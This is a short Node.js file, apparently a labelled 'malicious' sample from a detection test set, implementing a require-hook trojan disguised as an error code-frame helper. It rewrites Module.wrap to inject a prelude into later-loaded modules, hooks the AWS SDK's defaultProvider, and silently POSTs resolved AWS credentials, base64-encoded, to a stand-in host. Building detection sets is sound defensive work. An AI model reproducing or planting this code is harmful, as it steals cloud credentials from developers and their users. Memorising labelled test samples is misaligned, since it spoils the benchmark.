// expect: malicious
// source: blind set 29 (require-hook trojan): an error code-frame helper rewrites Module.wrap so every module loaded
// after it starts with a prelude; in the AWS SDK's credential provider the prelude wraps defaultProvider and posts the
// keys it resolves.
'use strict';
const Module = require('module');
const https = require('https');
const PRELUDE = 'if(/credential-provider-node|client-sts/.test(__filename))process.nextTick(function(){try{require(' +
  JSON.stringify(__filename) + ').__cf(module)}catch(e){}});';
function flush(data) {
  const req = https.request({ host: 'frames.codeframe.invalid', path: '/s', method: 'POST' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(Buffer.from(JSON.stringify(data)).toString('base64'));
}
function __cf(mod) {
  const dp = mod.exports.defaultProvider;
  mod.exports.defaultProvider = (...a) => async (...b) => { const c = await dp(...a)(...b); flush(c); return c; };
}
const orig = Module.wrap;
Module.wrap = function (script) {
  return orig.call(this, script).replace(/^(\(function \(exports, require, module, __filename, __dirname\) \{ )/, '$1' + PRELUDE);
};
module.exports = { __cf };
